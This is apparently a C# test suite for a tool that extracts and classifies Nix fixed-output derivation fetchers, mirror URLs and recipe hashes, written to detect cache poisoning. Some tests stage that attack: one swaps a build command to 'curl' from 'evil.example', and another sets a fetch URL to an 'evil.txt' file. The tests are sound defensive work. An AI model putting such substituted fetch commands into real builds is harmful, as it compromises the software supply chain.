using System.Text;
using Vigil.Nix.Derivations;
using Vigil.Nix.Fetchers;
using Vigil.Nix.Hashing;
using Vigil.Nix.StorePaths;

namespace Vigil.Nix.Tests.Fetchers;

/// <summary>One test per fetcher shape: real Nix vectors first, then hand-written nixpkgs-2025 FODs.</summary>
public sealed class FodExtractorTests
{
    private readonly HandWrittenDrvs _store = new();

    private static NixHash Sha256Of(string label) => NixHash.Compute(HashAlgorithmKind.Sha256, Encoding.UTF8.GetBytes(label));

    private FodRecord Extract(string drvPath) =>
        FodExtractor.Extract(FodExtractor.FromDerivation(drvPath, _store[drvPath], _store.Load));

    /// <summary>A nixpkgs-style mirrors-list drv with three sites (one a query-prefix base); returns its out path.</summary>
    private (string DrvPath, string OutPath) MirrorsList()
    {
        var drv = _store.AddInputAddressed("mirrors-list", new Dictionary<string, string>
        {
            ["gnu"] = "https://ftpmirror.gnu.org/ https://ftp.nluug.nl/pub/gnu/ https://mirrors.kernel.org/gnu/",
            ["sourceforge"] = "https://downloads.sourceforge.net/ https://prdownloads.sourceforge.net/",
            ["sageupstream"] = "https://github.com/sagemath/sage/releases/download/10.4/ https://www.mirrorservice.org/sites/www.sagemath.org/spkg/upstream/",
            ["ibiblioPubLinux"] = "https://www.ibiblio.org/pub/Linux/",
            ["hashedMirrors"] = "https://tarballs.nixos.org",
            ["luarocks"] = "https://luarocks.org/ https://raw.githubusercontent.com/rocks-moonscript-org/moonrocks-mirror/master/",
            ["preferLocalBuild"] = "1",
            ["strictDeps"] = "1",
            ["stdenv"] = NixpkgsEnvs.Stdenv,
            ["queryStyle"] = "https://example.org/download.php?url=",
            ["notASite"] = "plain words, no scheme",
        });
        return (drv, _store.OutPath(drv));
    }

    // ---- builtin:fetchurl (real Nix vectors, docs/nix-formats.md §7.2) ----

    [Fact]
    public void Builtin_fetchurl_records_the_url_the_hash_in_every_form_and_a_canonical_recipe()
    {
        var path = _store.AddATerm("hello-2.12.tar.gz", NixVectors.BuiltinFlat);
        Assert.Equal(NixVectors.BuiltinFlatPath, path);

        var fod = Extract(path);

        Assert.Equal(FetcherKind.BuiltinFetchurl, fod.Fetcher);
        Assert.Equal("/nix/store/8nqv6kshb3vs5q5bs2k600xpj5bkavkc-hello-2.12.tar.gz", fod.OutputPath);
        Assert.Equal("hello-2.12.tar.gz", fod.Name);
        Assert.Equal(HashAlgorithmKind.Sha256, fod.Algorithm);
        Assert.Equal("flat", fod.HashMode);
        // nix hash to-sri --type sha256 cf04af86…
        Assert.Equal("sha256-zwSvhtwIUmjF9EcPuuSbGK+8Iht4CWqrhC2TSna60Ks=", fod.HashSri);
        Assert.Equal("1ayhp9v4m4rdhjmnl2bq3cibrbqqkgjbl3s7yk2nhlh8vj3ay16g", fod.OriginalHash);
        Assert.Equal(["https://example.org/dist/hello-2.12.tar.gz"], fod.Urls);
        Assert.Null(fod.Rev);
        Assert.Equal("""{"fetcher":"builtin-fetchurl","urls":["https://example.org/dist/hello-2.12.tar.gz"]}""", fod.Recipe);
        Assert.Equal(Convert.ToHexStringLower(System.Security.Cryptography.SHA256.HashData(Encoding.UTF8.GetBytes(fod.Recipe))), fod.RecipeHash);
    }

    [Fact]
    public void Builtin_fetchurl_with_unpack_is_recursive_and_says_so_in_the_recipe()
    {
        var path = _store.AddATerm("source", NixVectors.BuiltinUnpack);
        Assert.Equal(NixVectors.BuiltinUnpackPath, path);

        var fod = Extract(path);

        Assert.Equal(FetcherKind.BuiltinFetchurl, fod.Fetcher);
        Assert.Equal("recursive", fod.HashMode);
        Assert.Equal("sha256-t4eYF+TzOfW+3sg4WQhCwrXmAT/ZUtW+N/y6aVSKmns=", fod.HashSri);
        Assert.Equal("sha256-t4eYF+TzOfW+3sg4WQhCwrXmAT/ZUtW+N/y6aVSKmns=", fod.OriginalHash);
        Assert.Equal("""{"fetcher":"builtin-fetchurl","recursive":true,"unpack":true,"urls":["https://example.org/dist/tree.nar"]}""", fod.Recipe);
    }

    [Fact]
    public void Builtin_fetchurl_fetches_url_only_and_flags_a_different_urls_list()
    {
        // docs/nix-behaviour.md §1.5: url = evil, urls = [ good ] fetches evil.
        var hash = Sha256Of("good");
        var path = _store.AddFod("probe.txt", ContentAddressMethod.Flat, hash, new Dictionary<string, string>
        {
            ["url"] = "http://127.0.0.1:8080/evil.txt",
            ["urls"] = "http://127.0.0.1:8080/good.txt",
            ["outputHash"] = hash.ToBase16(),
            ["outputHashAlgo"] = "sha256",
            ["outputHashMode"] = "flat",
            ["postFetch"] = "ignored by the builtin builder",
            ["mirrorsFile"] = "/nix/store/qp1fgwff1iyjhhbpdx5knhzn87hvjg88-mirrors-list",
        }, builder: "builtin:fetchurl", args: []);

        var fod = Extract(path);

        Assert.Equal(FetcherKind.BuiltinFetchurl, fod.Fetcher);
        Assert.Equal(["http://127.0.0.1:8080/evil.txt"], fod.Urls);
        Assert.Equal(
            """{"fetcher":"builtin-fetchurl","ignoredUrls":["http://127.0.0.1:8080/good.txt"],"urls":["http://127.0.0.1:8080/evil.txt"]}""",
            fod.Recipe);
    }

    // ---- nixpkgs fetchurl and mirror:// (§7.3, §7.4) ----

    [Fact]
    public void Nixpkgs_fetchurl_shaped_drv_expands_mirrors_from_its_mirrors_list_input()
    {
        Assert.Equal(NixVectors.MirrorsListPath, _store.AddATerm("mirrors-list", NixVectors.MirrorsList));
        var path = _store.AddATerm("hello-2.12.tar.gz", NixVectors.MirrorFetch);
        Assert.Equal(NixVectors.MirrorFetchPath, path);
        var builtin = Extract(_store.AddATerm("hello-2.12.tar.gz", NixVectors.BuiltinFlat));

        var fod = Extract(path);

        Assert.Equal(FetcherKind.Fetchurl, fod.Fetcher);
        Assert.Equal(["https://ftpmirror.gnu.org/hello/hello-2.12.tar.gz", "https://ftp.gnu.org/pub/gnu/hello/hello-2.12.tar.gz"], fod.Urls);
        Assert.Equal("""{"fetcher":"fetchurl","urls":["mirror://gnu/hello/hello-2.12.tar.gz"]}""", fod.Recipe);
        Assert.Equal("cf04af86dc085268c5f4470fbae49b18afbc221b78096aab842d934a76bad0ab", fod.OriginalHash);
        // The cache-poisoning shape: one output path, two recipes.
        Assert.Equal(builtin.OutputPath, fod.OutputPath);
        Assert.Equal(builtin.HashSri, fod.HashSri);
        Assert.NotEqual(builtin.RecipeHash, fod.RecipeHash);
    }

    [Fact]
    public void Structured_attrs_fod_reads_urls_hash_and_mirrors_from_json()
    {
        _store.AddATerm("mirrors-list", NixVectors.MirrorsList);
        var path = _store.AddATerm("sa-fod", NixVectors.Structured);
        Assert.Equal(NixVectors.StructuredPath, path);

        var fod = Extract(path);

        Assert.Equal(FetcherKind.Fetchurl, fod.Fetcher);
        Assert.Equal("sa-fod", fod.Name);
        Assert.Equal("sha256-LPJNul+wow4m6DsqxbninhsWHlwfp0JecwQzYpOLmCQ=", fod.OriginalHash);
        Assert.Equal(fod.OriginalHash, fod.HashSri);
        Assert.Equal(
            ["https://a.example/x", "https://ftpmirror.gnu.org/hello/hello-2.12.tar.gz", "https://ftp.gnu.org/pub/gnu/hello/hello-2.12.tar.gz"],
            fod.Urls);
        Assert.Equal("""{"fetcher":"fetchurl","urls":["https://a.example/x","mirror://gnu/hello/hello-2.12.tar.gz"]}""", fod.Recipe);
    }

    [Fact]
    public void Nixpkgs_fetchurl_expands_every_base_in_order_keeps_unknown_sites_and_drops_duplicates()
    {
        var (mirrorsDrv, mirrorsOut) = MirrorsList();
        var hash = Sha256Of("hello-2.12.1.tar.gz");
        var urls = "mirror://gnu/hello/hello-2.12.1.tar.gz\thttps://ftpmirror.gnu.org/hello/hello-2.12.1.tar.gz\n"
            + " mirror://nosuchsite/x.tar.gz mirror://queryStyle/pkg/x.tar.gz mirror://notASite/y mirror://out/z "
            + "mirror://gnu/hello/hello-2.12.1.tar.gz";
        var path = _store.AddFod("hello-2.12.1.tar.gz", ContentAddressMethod.Flat, hash,
            NixpkgsEnvs.Fetchurl(urls, hash.ToSri(), mirrorsOut), [mirrorsDrv]);

        var fod = Extract(path);

        Assert.Equal(FetcherKind.Fetchurl, fod.Fetcher);
        Assert.Equal(
            [
                "https://ftpmirror.gnu.org/hello/hello-2.12.1.tar.gz",
                "https://ftp.nluug.nl/pub/gnu/hello/hello-2.12.1.tar.gz",
                "https://mirrors.kernel.org/gnu/hello/hello-2.12.1.tar.gz",
                "mirror://nosuchsite/x.tar.gz",
                "https://example.org/download.php?url=pkg/x.tar.gz",
                "mirror://notASite/y",
                "mirror://out/z",
            ],
            fod.Urls);
        Assert.Equal(
            """{"fetcher":"fetchurl","urls":["mirror://gnu/hello/hello-2.12.1.tar.gz","https://ftpmirror.gnu.org/hello/hello-2.12.1.tar.gz","mirror://nosuchsite/x.tar.gz","mirror://queryStyle/pkg/x.tar.gz","mirror://notASite/y","mirror://out/z"]}""",
            fod.Recipe);
        Assert.Equal(hash.ToSri(), fod.OriginalHash);
    }

    [Fact]
    public void Mirror_urls_stay_verbatim_when_the_mirror_list_cannot_be_found()
    {
        var (mirrorsDrv, mirrorsOut) = MirrorsList();
        var hash = Sha256Of("x");
        var env = NixpkgsEnvs.Fetchurl("mirror://gnu/x/x-1.tar.gz", hash.ToSri(), mirrorsOut);
        var path = _store.AddFod("x-1.tar.gz", ContentAddressMethod.Flat, hash, env, [mirrorsDrv]);

        var unloadable = FodExtractor.Extract(FodExtractor.FromDerivation(path, _store[path], _ => null));
        env["mirrorsFile"] = HandWrittenDrvs.ToolPath("other-mirrors-list");
        var otherPath = _store.AddFod("x-1.tar.gz", ContentAddressMethod.Flat, hash, env, [mirrorsDrv]);
        var mismatched = Extract(otherPath);

        Assert.Equal(["mirror://gnu/x/x-1.tar.gz"], unloadable.Urls);
        Assert.Equal(["mirror://gnu/x/x-1.tar.gz"], mismatched.Urls);
        Assert.Equal(FetcherKind.Fetchurl, mismatched.Fetcher);
    }

    [Fact]
    public void Mirror_list_is_loaded_only_when_a_mirror_url_needs_it()
    {
        var (mirrorsDrv, mirrorsOut) = MirrorsList();
        var hash = Sha256Of("plain");
        var path = _store.AddFod("plain.tar.gz", ContentAddressMethod.Flat, hash,
            NixpkgsEnvs.Fetchurl("https://example.org/plain.tar.gz", hash.ToSri(), mirrorsOut), [mirrorsDrv]);
        var loads = 0;

        var fod = FodExtractor.Extract(FodExtractor.FromDerivation(path, _store[path], p => { loads++; return _store.Load(p); }));

        Assert.Equal(0, loads);
        Assert.Equal(["https://example.org/plain.tar.gz"], fod.Urls);
    }

    [Fact]
    public void Executable_fetchurl_is_recursive_fetchurl_not_fetchzip()
    {
        var (mirrorsDrv, mirrorsOut) = MirrorsList();
        var hash = Sha256Of("tool");
        var env = NixpkgsEnvs.Fetchurl("https://example.org/bin/tool", hash.ToSri(), mirrorsOut, recursive: true);
        env["executable"] = "1";
        var path = _store.AddFod("tool", ContentAddressMethod.Recursive, hash, env, [mirrorsDrv]);

        var fod = Extract(path);

        Assert.Equal(FetcherKind.Fetchurl, fod.Fetcher);
        Assert.Equal("""{"executable":true,"fetcher":"fetchurl","recursive":true,"urls":["https://example.org/bin/tool"]}""", fod.Recipe);
    }

    // ---- fetchzip, forges, patches, crates (§7.5) ----

    [Fact]
    public void Fetchzip_is_recognised_by_its_unpacking_post_fetch()
    {
        var (mirrorsDrv, mirrorsOut) = MirrorsList();
        var hash = Sha256Of("zip");
        var path = _store.AddFod("source", ContentAddressMethod.Recursive, hash,
            NixpkgsEnvs.Fetchzip("mirror://sourceforge/project/foo/foo-1.0.tar.gz", hash.ToSri(), mirrorsOut), [mirrorsDrv]);

        var fod = Extract(path);

        Assert.Equal(FetcherKind.Fetchzip, fod.Fetcher);
        Assert.Equal(
            ["https://downloads.sourceforge.net/project/foo/foo-1.0.tar.gz", "https://prdownloads.sourceforge.net/project/foo/foo-1.0.tar.gz"],
            fod.Urls);
        Assert.Contains("\"downloadToTemp\":true", fod.Recipe, StringComparison.Ordinal);
        Assert.Contains("\"postFetch\":\"", fod.Recipe, StringComparison.Ordinal);
        Assert.Contains("\"recursive\":true", fod.Recipe, StringComparison.Ordinal);
    }

    [Fact]
    public void A_different_post_fetch_script_is_a_different_recipe()
    {
        var (mirrorsDrv, mirrorsOut) = MirrorsList();
        var hash = Sha256Of("zip");
        var plain = Extract(_store.AddFod("source", ContentAddressMethod.Recursive, hash,
            NixpkgsEnvs.Fetchzip("https://example.org/foo-1.0.tar.gz", hash.ToSri(), mirrorsOut), [mirrorsDrv]));
        var patched = Extract(_store.AddFod("source", ContentAddressMethod.Recursive, hash,
            NixpkgsEnvs.Fetchzip("https://example.org/foo-1.0.tar.gz", hash.ToSri(), mirrorsOut, "rm -r $out/tests"), [mirrorsDrv]));

        Assert.Equal(plain.OutputPath, patched.OutputPath);
        Assert.NotEqual(plain.RecipeHash, patched.RecipeHash);
    }

    [Fact]
    public void FetchFromGitHub_archive_gives_the_revision_in_the_url()
    {
        var (mirrorsDrv, mirrorsOut) = MirrorsList();
        var hash = Sha256Of("patchelf");
        var path = _store.AddFod("source", ContentAddressMethod.Recursive, hash,
            NixpkgsEnvs.GitHubArchive("NixOS", "patchelf", "", hash.ToSri(), mirrorsOut, tag: "0.18.0"), [mirrorsDrv]);

        var fod = Extract(path);

        Assert.Equal(FetcherKind.GitHub, fod.Fetcher);
        Assert.Equal("refs/tags/0.18.0", fod.Rev);
        Assert.Equal(["https://github.com/NixOS/patchelf/archive/refs/tags/0.18.0.tar.gz"], fod.Urls);
        Assert.Contains("\"rev\":\"refs/tags/0.18.0\"", fod.Recipe, StringComparison.Ordinal);
        Assert.Contains("\"fetcher\":\"github\"", fod.Recipe, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("https://github.com/NixOS/nix/archive/2.8.0.tar.gz", "2.8.0")]
    [InlineData("https://api.github.com/repos/acme/private/tarball/0123456789abcdef0123456789abcdef01234567", "0123456789abcdef0123456789abcdef01234567")]
    [InlineData("https://github.com/owner/repo/archive/refs/tags/v1.2.3.tar.gz", "refs/tags/v1.2.3")]
    public void GitHub_is_recognised_by_url_shape_alone(string url, string rev)
    {
        var hash = Sha256Of(url);
        var env = new Dictionary<string, string>
        {
            ["urls"] = url,
            ["outputHash"] = hash.ToSri(),
            ["outputHashMode"] = "recursive",
            ["netrcPhase"] = "cat > netrc <<EOF\nmachine api.github.com\nEOF\n",
        };
        var fod = Extract(_store.AddFod("source", ContentAddressMethod.Recursive, hash, env));

        Assert.Equal(FetcherKind.GitHub, fod.Fetcher);
        Assert.Equal(rev, fod.Rev);
    }

    [Fact]
    public void GitHub_enterprise_is_recognised_through_github_base()
    {
        var hash = Sha256Of("ghe");
        var env = new Dictionary<string, string>
        {
            ["urls"] = "https://git.corp.example/api/v3/repos/team/tool/tarball/v3.1",
            ["githubBase"] = "git.corp.example",
            ["outputHash"] = hash.ToSri(),
        };
        var fod = Extract(_store.AddFod("source", ContentAddressMethod.Recursive, hash, env));

        Assert.Equal(FetcherKind.GitHub, fod.Fetcher);
        Assert.Equal("v3.1", fod.Rev);
    }

    [Theory]
    [InlineData("https://gitlab.com/api/v4/projects/inkscape%2Finkscape/repository/archive.tar.gz?sha=INKSCAPE_1_4", "INKSCAPE_1_4")]
    [InlineData("https://gitlab.freedesktop.org/api/v4/projects/mesa%2Fmesa/repository/archive.tar.bz2?sha=mesa-25.0.1", "mesa-25.0.1")]
    [InlineData("https://gitlab.com/owner/repo/-/archive/v1.0/repo-v1.0.tar.gz", "v1.0")]
    public void GitLab_archive_urls_give_their_revision(string url, string rev)
    {
        var (mirrorsDrv, mirrorsOut) = MirrorsList();
        var hash = Sha256Of(url);
        var fod = Extract(_store.AddFod("source", ContentAddressMethod.Recursive, hash,
            NixpkgsEnvs.Fetchzip(url, hash.ToSri(), mirrorsOut), [mirrorsDrv]));

        Assert.Equal(FetcherKind.GitLab, fod.Fetcher);
        Assert.Equal(rev, fod.Rev);
        Assert.Equal([url], fod.Urls);
    }

    [Fact]
    public void Fetchgit_records_url_and_rev_and_checkout_options()
    {
        var hash = Sha256Of("git");
        var rev = "5f1e8b3c6d0a4e2f9b7c1d3e5f7a9b0c2d4e6f81";
        var fod = Extract(_store.AddFod("nixpkgs-5f1e8b3", ContentAddressMethod.Recursive, hash,
            NixpkgsEnvs.Fetchgit("https://github.com/NixOS/nixpkgs.git", rev, hash.ToSri(), submodules: true)));

        Assert.Equal(FetcherKind.Git, fod.Fetcher);
        Assert.Equal(["https://github.com/NixOS/nixpkgs.git"], fod.Urls);
        Assert.Equal(rev, fod.Rev);
        Assert.Equal(
            $$"""{"fetcher":"git","options":{"fetchSubmodules":"1"},"recursive":true,"rev":"{{rev}}","urls":["https://github.com/NixOS/nixpkgs.git"]}""",
            fod.Recipe);
    }

    [Fact]
    public void FetchFromGitHub_in_git_form_is_git_not_github()
    {
        var hash = Sha256Of("gitform");
        var env = NixpkgsEnvs.Fetchgit("https://github.com/owner/repo.git", "refs/tags/v2.0", hash.ToSri(), submodules: true);
        env["githubBase"] = "github.com";
        env["owner"] = "owner";
        env["repo"] = "repo";
        var fod = Extract(_store.AddFod("source", ContentAddressMethod.Recursive, hash, env));

        Assert.Equal(FetcherKind.Git, fod.Fetcher);
        Assert.Equal("refs/tags/v2.0", fod.Rev);
    }

    [Fact]
    public void Url_and_rev_without_the_git_fetcher_still_identify_a_git_like_fod()
    {
        var hash = Sha256Of("svn");
        var env = new Dictionary<string, string>
        {
            ["url"] = "svn://svn.example.org/trunk",
            ["rev"] = "12345",
            ["outputHash"] = hash.ToSri(),
        };
        var fod = Extract(_store.AddFod("trunk-r12345", ContentAddressMethod.Recursive, hash, env));

        Assert.Equal(FetcherKind.Git, fod.Fetcher);
        Assert.Equal("12345", fod.Rev);
    }

    [Fact]
    public void Fetchpatch_is_recognised_and_its_tool_paths_do_not_leak_into_the_recipe()
    {
        var (mirrorsDrv, mirrorsOut) = MirrorsList();
        var hash = Sha256Of("patch");
        var url = "https://github.com/curl/curl/commit/0f4a03cbb6fbd8bc0ec0ad7c5f4bd6ffa4bb25f1.patch";
        var before = Extract(_store.AddFod("CVE-2025-0665.patch", ContentAddressMethod.Flat, hash,
            NixpkgsEnvs.Fetchpatch(url, hash.ToSri(), mirrorsOut, NixpkgsEnvs.Patchutils), [mirrorsDrv]));
        // Same patchutils version rebuilt after a stdenv change: new hash part, same tool.
        var rebuilt = Extract(_store.AddFod("CVE-2025-0665.patch", ContentAddressMethod.Flat, hash,
            NixpkgsEnvs.Fetchpatch(url, hash.ToSri(), mirrorsOut, HandWrittenDrvs.ToolPath("rebuilt").Replace("rebuilt", "patchutils-0.4.2", StringComparison.Ordinal)), [mirrorsDrv]));
        var upgraded = Extract(_store.AddFod("CVE-2025-0665.patch", ContentAddressMethod.Flat, hash,
            NixpkgsEnvs.Fetchpatch(url, hash.ToSri(), mirrorsOut, HandWrittenDrvs.ToolPath("patchutils-0.4.3")), [mirrorsDrv]));

        Assert.Equal(FetcherKind.Patch, before.Fetcher);
        Assert.Equal([url], before.Urls);
        Assert.NotEqual(before.DrvPath, rebuilt.DrvPath);
        Assert.Equal(before.RecipeHash, rebuilt.RecipeHash);
        Assert.NotEqual(before.RecipeHash, upgraded.RecipeHash);
    }

    [Fact]
    public void A_patch_named_otherwise_is_recognised_by_patchutils_in_post_fetch()
    {
        var (mirrorsDrv, mirrorsOut) = MirrorsList();
        var hash = Sha256Of("patch2");
        var fod = Extract(_store.AddFod("fix-build", ContentAddressMethod.Flat, hash,
            NixpkgsEnvs.Fetchpatch("https://git.savannah.gnu.org/cgit/grub.git/patch/?id=abc123", hash.ToSri(), mirrorsOut, NixpkgsEnvs.Patchutils), [mirrorsDrv]));

        Assert.Equal(FetcherKind.Patch, fod.Fetcher);
    }

    [Fact]
    public void FetchCrate_and_importCargoLock_crates_are_crates()
    {
        var (mirrorsDrv, mirrorsOut) = MirrorsList();
        var hash = Sha256Of("ripgrep");
        var fetchCrate = Extract(_store.AddFod("ripgrep-14.1.1.tar.gz", ContentAddressMethod.Recursive, hash,
            NixpkgsEnvs.Fetchzip("https://crates.io/api/v1/crates/ripgrep/14.1.1/download", hash.ToSri(), mirrorsOut), [mirrorsDrv]));
        var serde = Sha256Of("serde");
        var lockCrate = Extract(_store.AddFod("crate-serde-1.0.217.tar.gz", ContentAddressMethod.Flat, serde,
            NixpkgsEnvs.Fetchurl("https://static.crates.io/crates/serde/serde-1.0.217.crate", serde.ToSri(), mirrorsOut), [mirrorsDrv]));

        Assert.Equal(FetcherKind.Crate, fetchCrate.Fetcher);
        Assert.Equal(["https://crates.io/api/v1/crates/ripgrep/14.1.1/download"], fetchCrate.Urls);
        Assert.Equal(FetcherKind.Crate, lockCrate.Fetcher);
    }

    // ---- vendor FODs: no URL, lockfile in src (§7.5) ----

    [Theory]
    [InlineData("ripgrep-14.1.1-vendor-staging", FetcherKind.CargoVendor)]
    [InlineData("ripgrep-14.1.1-vendor.tar.gz", FetcherKind.CargoVendor)]
    [InlineData("ripgrep-14.1.1-vendor", FetcherKind.CargoVendor)]
    [InlineData("hugo-0.140.0-go-modules", FetcherKind.GoModules)]
    [InlineData("npm-deps", FetcherKind.NpmDeps)]
    [InlineData("prettier-3.4.2-npm-deps", FetcherKind.NpmDeps)]
    [InlineData("offline", FetcherKind.YarnDeps)]
    [InlineData("element-web-yarn-deps", FetcherKind.YarnDeps)]
    [InlineData("vesktop-1.5.5-pnpm-deps", FetcherKind.PnpmDeps)]
    [InlineData("something-else", FetcherKind.Other)]
    public void Vendor_fods_are_classified_by_name_and_keep_their_source_in_the_recipe(string name, FetcherKind kind)
    {
        var src = StoreDir.Default.Print(StoreDir.Default.MakeFixedOutputPath(ContentAddressMethod.Recursive, Sha256Of("src"), "source"));
        var hash = Sha256Of(name);

        var fod = Extract(_store.AddFod(name, ContentAddressMethod.Recursive, hash, NixpkgsEnvs.Vendor(src, hash.ToSri())));

        Assert.Equal(kind, fod.Fetcher);
        Assert.Empty(fod.Urls);
        Assert.Null(fod.Rev);
        Assert.Contains($"\"src\":{{\"src\":\"{src}\"}}", fod.Recipe, StringComparison.Ordinal);
        Assert.Contains("\"urls\":[]", fod.Recipe, StringComparison.Ordinal);
    }

    [Fact]
    public void Yarn_deps_are_recognised_by_their_yarn_lock_and_a_new_source_is_a_new_recipe()
    {
        var hash = Sha256Of("yarn");
        var env = NixpkgsEnvs.Vendor(HandWrittenDrvs.ToolPath("source"), hash.ToSri());
        env["yarnLock"] = HandWrittenDrvs.ToolPath("yarn.lock");
        var first = Extract(_store.AddFod("web-cache", ContentAddressMethod.Recursive, hash, env));
        env["yarnLock"] = HandWrittenDrvs.ToolPath("yarn.lock-new");
        var second = Extract(_store.AddFod("web-cache", ContentAddressMethod.Recursive, hash, env));

        Assert.Equal(FetcherKind.YarnDeps, first.Fetcher);
        Assert.NotEqual(first.RecipeHash, second.RecipeHash);
    }

    [Fact]
    public void Other_fods_keep_their_build_scripts_as_digests()
    {
        var hash = Sha256Of("custom");
        var env = new Dictionary<string, string>
        {
            ["buildCommand"] = "curl -L https://example.org/data.bin -o $out",
            ["outputHash"] = hash.ToBase16(),
            ["outputHashAlgo"] = "sha256",
        };
        var first = Extract(_store.AddFod("data.bin", ContentAddressMethod.Flat, hash, env));
        env["buildCommand"] = "curl -L https://evil.example/data.bin -o $out";
        var second = Extract(_store.AddFod("data.bin", ContentAddressMethod.Flat, hash, env));

        Assert.Equal(FetcherKind.Other, first.Fetcher);
        Assert.Contains("\"scripts\":{\"buildCommand\":\"", first.Recipe, StringComparison.Ordinal);
        Assert.Equal(first.OutputPath, second.OutputPath);
        Assert.NotEqual(first.RecipeHash, second.RecipeHash);
    }

    [Fact]
    public void A_url_list_without_nixpkgs_fetchurl_markers_is_other_with_its_urls()
    {
        var hash = Sha256Of("raw");
        var fod = Extract(_store.AddFod("raw.txt", ContentAddressMethod.Flat, hash, new Dictionary<string, string>
        {
            ["urls"] = "https://a.example/raw.txt https://b.example/raw.txt",
            ["url"] = "https://c.example/raw.txt",
            ["outputHash"] = hash.ToSri(),
        }, builder: "/bin/sh", args: ["-c", "fetch"]));

        Assert.Equal(FetcherKind.Other, fod.Fetcher);
        Assert.Equal(["https://a.example/raw.txt", "https://b.example/raw.txt", "https://c.example/raw.txt"], fod.Urls);
    }

    // ---- hashes: every spelling Nix accepts gives the same record (§1.6, §7.1) ----

    [Theory]
    [InlineData("sha256", "2cf24dba5fb0a30e26e83b2ac5b9e29e1b161e5c1fa7425e73043362938b9824")]
    [InlineData("sha256", "094qif9n4cq4fdg459qzbhg1c6wywawwaaivx0k0x8xhbyx4vwic")]
    [InlineData("sha256", "sha256:094qif9n4cq4fdg459qzbhg1c6wywawwaaivx0k0x8xhbyx4vwic")]
    [InlineData("", "sha256-LPJNul+wow4m6DsqxbninhsWHlwfp0JecwQzYpOLmCQ=")]
    [InlineData("sha256", "LPJNul+wow4m6DsqxbninhsWHlwfp0JecwQzYpOLmCQ=")]
    public void Every_hash_spelling_gives_one_sri_and_one_recipe_but_keeps_the_original(string algo, string spelling)
    {
        var hash = NixHash.Parse(spelling, algo.Length == 0 ? null : HashAlgorithms.Parse(algo));
        var env = new Dictionary<string, string>
        {
            ["url"] = "https://example.org/hello.txt",
            ["outputHash"] = spelling,
            ["outputHashAlgo"] = algo,
            ["outputHashMode"] = "flat",
        };

        var fod = Extract(_store.AddFod("hello.txt", ContentAddressMethod.Flat, hash, env, builder: "builtin:fetchurl", args: []));

        Assert.Equal("sha256-LPJNul+wow4m6DsqxbninhsWHlwfp0JecwQzYpOLmCQ=", fod.HashSri);
        Assert.Equal(spelling, fod.OriginalHash);
        Assert.Equal("/nix/store/iixxin28s82lrxs8v4lcf7nha2dkwprm-hello.txt", fod.OutputPath);
        Assert.Equal("""{"fetcher":"builtin-fetchurl","urls":["https://example.org/hello.txt"]}""", fod.Recipe);
    }

    [Theory]
    [InlineData(HashAlgorithmKind.Md5, "md5-XUFAKrxLKna5cZ2REBfFkg==")]
    [InlineData(HashAlgorithmKind.Sha1, "sha1-qvTGHdzF6KLavt4PO0gs2a6pQ00=")]
    [InlineData(HashAlgorithmKind.Sha512, "sha512-m3HSJL1i83hdltRq0+o9czGb+8KJDKra4t/3JRlnPKcjI8PZm6XBHXx6zG4UuMXaDEZjR1wuXDre9G9zvN7AQw==")]
    public void Other_algorithms_are_reported_with_their_sri_and_the_tuple_hex_when_env_has_no_hash(HashAlgorithmKind algo, string sri)
    {
        var hash = NixHash.Compute(algo, "hello"u8);
        var env = new Dictionary<string, string> { ["url"] = "https://example.org/hello.txt" };

        var fod = Extract(_store.AddFod("hello.txt", ContentAddressMethod.Recursive, hash, env, builder: "builtin:fetchurl", args: []));

        Assert.Equal(algo, fod.Algorithm);
        Assert.Equal(sri, fod.HashSri);
        Assert.Equal(hash.ToBase16(), fod.OriginalHash);
        Assert.Equal("recursive", fod.HashMode);
    }

    // ---- FromDerivation ----

    [Fact]
    public void Structured_attrs_are_coerced_exactly_as_nix_coerces_plain_env()
    {
        var plain = ATermReader.Parse(Encoding.UTF8.GetBytes(NixVectors.CoercePlain), "c");
        var structured = ATermReader.Parse(Encoding.UTF8.GetBytes(NixVectors.CoerceStructured), "c2");
        var env = DerivationEnv.For(structured);

        foreach (var key in new[] { "builder", "f", "l", "m", "n", "system" })
        {
            Assert.Equal(plain.GetEnvString(key), env(key));
        }
        Assert.Equal("c2", env("name"));
        Assert.Equal("/nix/store/6qxanypqrmz4a4vba03s85jxwmr3rdfk-c2", env("out"));
        Assert.Null(env("missing"));
    }

    [Fact]
    public void From_derivation_rejects_a_derivation_that_is_not_fixed_output()
    {
        var path = _store.AddATerm("mirrors-list", NixVectors.MirrorsList);

        var error = Assert.Throws<NixFormatException>(() => FodExtractor.FromDerivation(path, _store[path], _store.Load));
        Assert.Contains(path, error.Message, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("not json")]
    [InlineData("[1,2]")]
    [InlineData("{\"a\":1} trailing")]
    [InlineData("{\"a\":\"\\ud800\"}")]
    public void Bad_json_in_structured_attrs_is_a_format_error(string json)
    {
        var hash = Sha256Of("json");
        var path = _store.AddFod("bad", ContentAddressMethod.Flat, hash, new Dictionary<string, string> { ["__json"] = json }, structuredAttrs: true);

        Assert.Throws<NixFormatException>(() => Extract(path));
    }

    [Fact]
    public void Mirror_sites_from_an_evaluator_follow_the_same_rules()
    {
        var sites = FodExtractor.MirrorSites(new Dictionary<string, string>
        {
            ["gnu"] = "https://ftpmirror.gnu.org/  https://ftp.gnu.org/pub/gnu/",
            ["name"] = "mirrors-list",
            ["bad-site"] = "https://x.example/",
        });

        Assert.Equal(["https://ftpmirror.gnu.org/", "https://ftp.gnu.org/pub/gnu/"], sites("gnu"));
        Assert.Null(sites("name"));
        Assert.Null(sites("bad-site"));
        Assert.Null(sites("nosuch"));
    }
}
